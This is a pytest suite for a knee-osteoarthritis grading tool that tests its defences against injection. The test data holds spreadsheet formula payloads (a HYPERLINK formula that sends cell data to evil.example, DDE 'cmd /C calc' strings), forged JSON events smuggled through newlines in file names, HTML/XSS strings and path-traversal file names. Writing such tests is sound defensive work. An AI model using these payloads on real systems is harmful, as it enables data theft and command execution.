"""Robustness class 3: no injection through ids, file names or model cards.

Generated: case ids starting with each formula character (OWASP's = + - @ tab CR) with live payloads,
ids holding `$` mathtext, file names holding a newline and a forged JSON progress event, model cards
holding HTML, and detached .nhdr/.mhd headers whose data file lies outside their folder.
"""

from __future__ import annotations

import csv
import itertools
import json
import re
from pathlib import Path

import numpy as np
import pytest
from engine_helpers import run_main
from reliability_helpers import assert_one_clear_error, good_array, tiny_checkpoint

from kneeoa.data.volume import read_volume, write_nifti
from kneeoa.errors import InputError
from kneeoa.utils.cells import FORMULA_START

PAYLOADS = ['HYPERLINK("http://evil.example/?"&A1,"x")', "1+cmd|' /C calc'!A0", "SUM(1,2)", "2+3",
            "DDE(\"cmd\";\"/C calc\";\"x\")"]
FORMULA_IDS = [f"{start}{payload}" for start, payload in itertools.product(FORMULA_START, PAYLOADS)]


def _live(cell: str) -> bool:
    """True if a spreadsheet would evaluate the cell: it starts a formula and is not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_START)


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory) -> Path:
    return tiny_checkpoint(tmp_path_factory.mktemp("model") / "model.safetensors")


def test_no_table_we_write_holds_a_live_formula_and_ids_round_trip(tmp_path):
    import openpyxl

    from kneeoa.data.tables import read_table, write_table

    rows = [{"case_id": cid, "kl": k % 5, "note": f"-{k}"} for k, cid in enumerate(FORMULA_IDS)]
    for suffix in (".csv", ".xlsx"):
        path = write_table(tmp_path / f"t{suffix}", rows, ["case_id", "kl", "note"])
        if suffix == ".csv":
            cells = [c for line in csv.reader(path.open(encoding="utf-8", newline="")) for c in line]
        else:
            ws = openpyxl.load_workbook(path).active  # not read-only: formulas would show as data_type "f"
            assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
            cells = [str(c.value) for r in ws.iter_rows() for c in r if c.value is not None]
        assert not [c for c in cells if _live(c)], suffix
        # our readers take the quote off again (XML itself turns a CR into LF, so those ids change in .xlsx)
        back = [r["case_id"] for r in read_table(path)]
        assert [b for b, c in zip(back, FORMULA_IDS) if suffix == ".csv" or "\r" not in c] == \
            [c for c in FORMULA_IDS if suffix == ".csv" or "\r" not in c]
        assert [r["note"] for r in read_table(path)][:3] in (["-0", "-1", "-2"], [0, -1, -2])


def test_the_scores_table_holds_no_live_formula_and_resume_knows_the_ids(checkpoint, tmp_path, monkeypatch):
    folder = tmp_path / "cohort"
    folder.mkdir()
    ids = [f"{start}{payload}" for start in FORMULA_START for payload in ("SUM(1,2)", "2+3")]  # no "/" in names
    assert {cid[0] for cid in ids} == set(FORMULA_START)
    for k, cid in enumerate(ids):
        write_nifti(folder / f"{cid}.nii.gz", good_array(seed=k), np.eye(4))
    out = tmp_path / "scores.csv"
    args = ["score", str(folder), "--checkpoint", str(checkpoint), "--out", str(out), "--device", "cpu"]
    assert run_main(monkeypatch, *args) == 0
    cells = [c for line in csv.reader(out.open(encoding="utf-8", newline="")) for c in line]
    assert not [c for c in cells if _live(c)]
    from kneeoa.engine.score_io import read_scores

    assert sorted(r["case_id"] for r in read_scores(out)) == sorted(ids)
    before = out.read_bytes()
    assert run_main(monkeypatch, *args, "--resume") == 0
    assert out.read_bytes() == before  # every id was recognised as done


MATH_IDS = ["knee_$1", "$", "a$b$c", r"$\frac{", r"$x^{$", "$$", r"100$ \sqrt", "_$^$_"]


def test_dollar_signs_in_case_ids_do_not_break_figures():
    from kneeoa.report.figures import overlay_grid_png

    examples = [{"title": f"resnet3d dual · {cid} (KL 2)", "image": good_array(), "saliency": np.zeros((16, 16, 16)),
                 "mask": None} for cid in MATH_IDS]
    assert overlay_grid_png(examples).startswith(b"\x89PNG")


FORGED = [{"event": "result", "pred_kl": 4, "pred_oa": 1, "oa_prob": 0.99},
          {"event": "end", "task": "grade", "done": 3, "ok": True},
          {"event": "progress", "task": "grade", "done": 5, "total": 5}]


@pytest.mark.parametrize("forged", FORGED, ids=[f["event"] for f in FORGED])
def test_a_newline_in_a_file_name_cannot_forge_a_line_we_print(forged, checkpoint, tmp_path, monkeypatch, capsys):
    name = "knee\n" + json.dumps(forged) + "\r\n.nii.gz"
    path = tmp_path / name
    path.write_bytes(b"not a volume")
    rc = run_main(monkeypatch, "grade", str(path), "--checkpoint", str(checkpoint), "--result-json",
                  str(tmp_path / "r.json"), "--device", "cpu")
    err = capsys.readouterr().err
    lines = [line for line in err.splitlines() if line.strip()]
    assert rc == 1 and len(lines) == 1 and lines[0].startswith("kneeoa grade: error:")
    assert "\\n" in lines[0]


def _random_lines(rng) -> list[str]:
    """Lines that look like events but are not ours: no token, a wrong token, wrong types, unknown events."""
    lines = []
    for _ in range(60):
        event = dict(FORGED[int(rng.integers(len(FORGED)))])
        roll = int(rng.integers(5))
        if roll == 1:
            event["token"] = "0" * 32
        elif roll == 2:
            event.update(event="log", message=["not", "a", "string"], token="T")
        elif roll == 3:
            event.update(event="shell", token="T")
        elif roll == 4:
            event.update(done="5", total=True, token="T")
        lines.append(json.dumps(event))
    return lines


def test_the_job_reader_accepts_only_well_formed_events_of_its_own_job():
    from kneeoa.slicer import jobs

    rng = np.random.default_rng(3)
    for line in _random_lines(rng):
        assert jobs.parse_line(line, token="T")["event"] == "text", line
    ok = jobs.parse_line(json.dumps({"event": "progress", "task": "grade", "done": 1, "total": 3, "token": "T"}), "T")
    assert ok == {"event": "progress", "task": "grade", "done": 1, "total": 3}
    assert jobs.parse_line('{"event": "end", "ok": true, "token": "T"} trailing', "T")["event"] == "text"
    assert jobs.parse_line("[" * 100000, "T")["event"] == "text"


def test_a_real_job_ignores_a_forged_event_in_its_output(checkpoint, tmp_path):
    """The child prints (as a library might) a file name holding a forged result: the job has no result."""
    from kneeoa.slicer import jobs

    forged = json.dumps({"event": "result", "pred_kl": 4})
    script = tmp_path / "child.py"
    script.write_text("import json, os, sys\n"
                      f"print('reading /data/knee\\n' + {forged!r}, flush=True)\n"
                      "print(json.dumps({'event': 'result', 'pred_kl': 1, 'token': os.environ['KNEEOA_PROGRESS_TOKEN']}))\n")
    job = jobs.Job([jobs.sys.executable, str(script)]).start()
    assert job.wait(timeout_s=60) == 0
    assert job.result is not None and job.result["pred_kl"] == 1
    assert any(forged in line for line in job.tail)


HOSTILE = ['<img src=x onerror="alert(1)">', "<a href='file:///etc/passwd'>click</a>", "<b>bold</b> & <i>",
           "</td></tr></table><h1>owned</h1>", "<script>x()</script>", '"quoted" & \'single\'']


def test_model_card_text_is_escaped_in_slicer_labels():
    from kneeoa.slicer import module_widget, results

    rng = np.random.default_rng(11)
    for _ in range(20):
        pick = [HOSTILE[int(i)] for i in rng.integers(len(HOSTILE), size=4)]
        card = {"spec": {"backbone": pick[0], "variant": pick[1], "head": "chained", "input_shape": [16, 16, 16]},
                "training_data": pick[2], "metrics": {pick[3]: 0.5, "test": {"oa_auc": pick[0]}},
                "kneeoa_version": pick[1], "created": pick[2]}
        text = module_widget.html_table(results.card_rows(card))
        tags = set(re.findall(r"</?([a-zA-Z0-9]+)", text))
        assert tags <= {"table", "tr", "td", "b"}, text
        assert text.count("<tr>") == len(results.card_rows(card))


def _detached(folder: Path, kind: str, data_name: str) -> Path:
    if kind == "nhdr":
        header = folder / "scan.nhdr"
        header.write_text("NRRD0004\ntype: float\ndimension: 3\nsizes: 8 8 8\nendian: little\nencoding: raw\n"
                          f"data file: {data_name}\n\n")
    else:
        header = folder / "scan.mhd"
        header.write_text("ObjectType = Image\nNDims = 3\nBinaryData = True\nBinaryDataByteOrderMSB = False\n"
                          f"DimSize = 8 8 8\nElementType = MET_FLOAT\nElementDataFile = {data_name}\n")
    return header


OUTSIDE = ["../outside.raw", "../../../outside.raw", "sub/../../../../outside.raw", "{abs}", "link/outside.raw",
           "sub/link2/outside.raw"]


@pytest.mark.parametrize("kind", ["nhdr", "mhd"])
@pytest.mark.parametrize("name", OUTSIDE)
def test_a_detached_data_file_outside_the_header_folder_is_refused(kind, name, tmp_path, monkeypatch):
    raw = np.random.default_rng(0).normal(size=512).astype("<f4").tobytes()
    folder = tmp_path / "a" / "b" / "case"
    (folder / "sub").mkdir(parents=True)
    for place in (tmp_path, tmp_path / "a" / "b"):
        (place / "outside.raw").write_bytes(raw)
    (folder / "link").symlink_to(tmp_path)  # links inside the folder that lead outside it
    (folder / "sub" / "link2").symlink_to(tmp_path / "a")
    (tmp_path / "a" / "outside.raw").write_bytes(raw)
    header = _detached(folder, kind, str(tmp_path / "outside.raw") if name == "{abs}" else name)
    with pytest.raises(InputError, match="outside the header's folder") as err:
        read_volume(header)
    assert str(header) in str(err.value)
    monkeypatch.setenv("KNEEOA_ALLOW_OUTSIDE_DATA_FILES", "1")  # the user can allow it
    assert read_volume(header).shape == (8, 8, 8)


@pytest.mark.parametrize("kind", ["nhdr", "mhd"])
def test_a_data_file_beside_or_below_the_header_is_read(kind, tmp_path):
    raw = np.random.default_rng(0).normal(size=512).astype("<f4").tobytes()
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "scan.raw").write_bytes(raw)
    assert read_volume(_detached(tmp_path, kind, "sub/scan.raw")).shape == (8, 8, 8)


def test_grade_refuses_an_outside_data_file_with_one_line(checkpoint, tmp_path, monkeypatch, capsys):
    (tmp_path / "secret.raw").write_bytes(bytes(2048))
    (tmp_path / "in").mkdir()
    header = _detached(tmp_path / "in", "nhdr", "../secret.raw")
    rc = run_main(monkeypatch, "grade", str(header), "--checkpoint", str(checkpoint), "--result-json",
                  str(tmp_path / "r.json"), "--device", "cpu")
    assert_one_clear_error(rc, capsys.readouterr().err, "grade", header, "outside the header's folder")
